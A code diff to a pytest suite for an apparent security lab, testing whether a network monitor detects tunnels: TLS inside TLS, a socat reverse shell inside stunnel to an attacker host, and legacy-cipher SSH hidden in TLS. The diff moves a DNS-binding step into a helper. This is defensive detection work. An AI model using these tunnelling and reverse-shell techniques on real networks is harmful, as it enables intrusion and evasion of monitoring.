@@ -40,7 +40,6 @@ def shapes(lab_factory: LabFactory, tmp_path_factory: pytest.TempPathFactory) ->
     policy = tmp_path_factory.mktemp("shapes") / "shapes-policy.yaml"
     policy.write_text(source.replace(anchor, anchor.replace("8080]", f"8080, {OUTER}, {SHELL_PORT}]")))
     lab = lab_factory(policy)
-    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])  # binds ssh.lab -> 198.18.10.7 for this sandbox
     kit = start_servers(lab)
     conf = kit.root / "stunnel-nested.conf"
     conf.write_text(
@@ -54,6 +53,12 @@ def shapes(lab_factory: LabFactory, tmp_path_factory: pytest.TempPathFactory) ->
     yield lab, kit
 
 
+def bind_ssh_lab(lab: SecurityLab) -> None:
+    """Resolve ssh.lab in the sandbox: binds it to 198.18.10.7 for this sandbox for its TTL (60 s in the lab), so
+    each technique resolves again rather than rely on the fixture's binding."""
+    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])
+
+
 def _shape_record(port: int, protocol: str) -> Callable[[list[AttemptRecord]], bool]:
     def check(records: list[AttemptRecord]) -> bool:
         return any(r.dst == ATTACK and r.dport == port and r.protocol == protocol for r in records)
@@ -65,6 +70,7 @@ def test_tls_inside_tls_with_a_bound_name_is_recorded(shapes: tuple[SecurityLab,
     """curl speaks HTTPS to a local stunnel that wraps it again, to the attacker's TLS endpoint that unwraps the
     outer layer and hands the inner TLS to a second TLS server: the inner handshake's bursts show."""
     lab, kit = shapes
+    bind_ssh_lab(lab)
     client = stunnel_client(lab, kit, "nested", 6200, f"{ATTACK}:{OUTER}", "ssh.lab")
     since = time.time()
     with lab.capture("tls-in-tls") as capture:
@@ -114,6 +120,7 @@ def test_an_interactive_shell_inside_tls_with_a_bound_name_is_recorded(shapes: t
     """A reverse shell on a terminal (socat, ``sh -i`` on a pty) inside stunnel with a bound name, typed key by key
     by the attacker at the far end: each keystroke is echoed by the sandbox's pty at once, which is the shape."""
     lab, kit = shapes
+    bind_ssh_lab(lab)
     typist = next(p for p in lab.processes if p.name == "typist")
     before = len(typist.log())
     client = stunnel_client(lab, kit, "shell", 6202, f"{ATTACK}:{SHELL_PORT}", "ssh.lab")
@@ -157,6 +164,7 @@ def test_ssh_with_a_legacy_cipher_inside_tls_is_blocked_at_its_opening(shapes: t
     hmac-sha2-256: MAC-then-encrypt, packets 0 mod 16) that hide SSH's usual 4-mod-8 sizes: its clear opening
     (identification, KEXINIT, key exchange, NEWKEYS) shows it, and its first encrypted packet is not forwarded."""
     lab, kit = shapes
+    bind_ssh_lab(lab)
     client = stunnel_client(lab, kit, "legacy", 6201, f"{ATTACK}:{SSH_TLS}", "ssh.lab")
     ssh = ["ssh", *SSH_OPTIONS, "-tt", "-c", "aes128-ctr", "-m", "hmac-sha2-256", "-i", str(kit.user_key),
            "-p", "6201", "root@127.0.0.1"]  # fmt: skip
